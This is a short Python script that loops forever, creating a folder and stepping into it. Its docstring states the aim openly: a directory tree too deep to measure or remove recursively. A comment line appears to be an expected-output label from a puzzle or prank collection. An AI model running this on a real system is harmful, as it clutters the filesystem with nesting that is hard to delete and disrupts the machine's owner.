"""Makes folders in folders, too deep to be measured and removed by recursion."""
# Gets: Your code made folders

import os

while True:
    os.mkdir("d")
    os.chdir("d")
